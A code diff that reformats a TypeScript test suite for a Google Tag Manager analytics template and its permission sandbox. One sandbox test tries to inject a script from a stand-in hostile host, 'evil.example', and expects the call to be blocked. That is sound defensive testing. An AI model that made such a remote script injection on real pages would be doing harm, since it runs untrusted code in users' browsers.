@@ -17,27 +17,59 @@ const URL_ = 'https://collector.example.com';
 function page(consent: ConsentState = createConsentState()) {
   const window: Record<string, any> = {};
   const pending: { url: string; done: (ok: boolean) => void }[] = [];
-  const sandbox = createSandbox({ window, policy, consent, debug: true, loadScript: (url, done) => pending.push({ url, done }) });
-  const fire = (fields: Record<string, unknown>) => fireTag(compiled, sandbox.require, { collectorUrl: URL_, publishableKey: 'pk_test_1', consentSource: 'consentMode', ...fields });
+  const sandbox = createSandbox({
+    window,
+    policy,
+    consent,
+    debug: true,
+    loadScript: (url, done) => pending.push({ url, done }),
+  });
+  const fire = (fields: Record<string, unknown>) =>
+    fireTag(compiled, sandbox.require, {
+      collectorUrl: URL_,
+      publishableKey: 'pk_test_1',
+      consentSource: 'consentMode',
+      ...fields,
+    });
   const queue = () => (window.clearbit?.q ?? []).map((args: IArguments) => Array.from(args));
   return { window, sandbox, pending, fire, queue, consent };
 }
 
 describe('template.tpl as a file', () => {
   it('has the sections GTM exports, in its order, with the Gallery terms accepted', () => {
-    expect(tpl.order).toEqual(['TERMS_OF_SERVICE', 'INFO', 'TEMPLATE_PARAMETERS', 'SANDBOXED_JS_FOR_WEB_TEMPLATE', 'WEB_PERMISSIONS', 'TESTS', 'NOTES']);
+    expect(tpl.order).toEqual([
+      'TERMS_OF_SERVICE',
+      'INFO',
+      'TEMPLATE_PARAMETERS',
+      'SANDBOXED_JS_FOR_WEB_TEMPLATE',
+      'WEB_PERMISSIONS',
+      'TESTS',
+      'NOTES',
+    ]);
     expect(tpl.sections.TERMS_OF_SERVICE).toContain('Community\nTemplate Gallery Developer Terms of Service');
     expect(tpl.info).toMatchObject({ type: 'TAG', id: 'cvt_temp_public_id', version: 1, containerContexts: ['WEB'] });
     expect(tpl.info.categories.length).toBeGreaterThan(0);
   });
 
   it('offers the collector URL, publishable key, identify fields, the consent source and the cookie domain', () => {
-    const names = (params: any[]): string[] => params.flatMap((p) => [p.name, ...(p.subParams ? names(p.subParams) : [])]);
-    expect(names(tpl.parameters)).toEqual(['collectorUrl', 'publishableKey', 'action', 'email', 'traits', 'consentGroup', 'consentSource', 'cookieGroup', 'cookieDomain']);
+    const names = (params: any[]): string[] =>
+      params.flatMap((p) => [p.name, ...(p.subParams ? names(p.subParams) : [])]);
+    expect(names(tpl.parameters)).toEqual([
+      'collectorUrl',
+      'publishableKey',
+      'action',
+      'email',
+      'traits',
+      'consentGroup',
+      'consentSource',
+      'cookieGroup',
+      'cookieDomain',
+    ]);
     const cookieDomain = tpl.parameters.find((p) => p.name === 'cookieGroup').subParams[0];
     const domainRule = new RegExp(cookieDomain.valueValidators.find((v: any) => v.type === 'REGEX').args[0]);
     for (const ok of ['', 'auto', 'none', 'example.com', '.example.co.uk']) expect(domainRule.test(ok), ok).toBe(true);
-    for (const bad of ['https://example.com', 'example.com/', 'exa mple.com']) expect(domainRule.test(bad), bad).toBe(false);
+    for (const bad of ['https://example.com', 'example.com/', 'exa mple.com'])
+      expect(domainRule.test(bad), bad).toBe(false);
     const byName = Object.fromEntries(tpl.parameters.map((p) => [p.name, p]));
     const urlRule = new RegExp(byName.collectorUrl.valueValidators.find((v: any) => v.type === 'REGEX').args[0]);
     expect(urlRule.test('https://www.example.com/_cb')).toBe(true);
@@ -59,9 +91,14 @@ describe('the ___TESTS___ section', () => {
   });
 
   it('fails when the template misbehaves (the runner is not a rubber stamp)', () => {
-    const broken = { ...tpl, code: tpl.code.replace("callInWindow('clearbit', 'load', data.publishableKey, collectorUrl);", '') };
+    const broken = {
+      ...tpl,
+      code: tpl.code.replace("callInWindow('clearbit', 'load', data.publishableKey, collectorUrl);", ''),
+    };
     const failed = runTemplateTests(broken, policy).filter((r) => !r.passed);
-    expect(failed.map((r) => r.name)).toContain("Load queues 'load' first, then consent, and injects the tag from the collector");
+    expect(failed.map((r) => r.name)).toContain(
+      "Load queues 'load' first, then consent, and injects the tag from the collector",
+    );
   });
 });
 
@@ -153,7 +190,12 @@ describe('the sandbox harness', () => {
     for (const code of ['window.x = 1;', 'const t = JSON.stringify({});', 'setTimeout(data.gtmOnSuccess, 0);']) {
       expect(fireTag(compileSandboxed(code), sandbox.require, {}).error).toBeInstanceOf(ReferenceError);
     }
-    for (const code of ['const d = new Date();', 'const f = `x`;', 'const {a} = data;', 'const g = function () { return this; };']) {
+    for (const code of [
+      'const d = new Date();',
+      'const f = `x`;',
+      'const {a} = data;',
+      'const g = function () { return this; };',
+    ]) {
       expect(() => compileSandboxed(code)).toThrow(SyntaxError);
     }
   });
@@ -164,7 +206,9 @@ describe('the sandbox harness', () => {
     expect(run("require('callInWindow')('dataLayer.push', {});")).toBeInstanceOf(PermissionError);
     expect(run("require('copyFromWindow')('clearbit.q');")).toBeUndefined();
     expect(run("require('createArgumentsQueue')('clearbit', 'dataLayer');")).toBeInstanceOf(PermissionError);
-    expect(run("require('injectScript')('https://evil.example/v1/tag.js.js', data.gtmOnSuccess);")).toBeInstanceOf(PermissionError);
+    expect(run("require('injectScript')('https://evil.example/v1/tag.js.js', data.gtmOnSuccess);")).toBeInstanceOf(
+      PermissionError,
+    );
     expect(run("require('isConsentGranted')('analytics_storage');")).toBeInstanceOf(PermissionError);
   });
 });
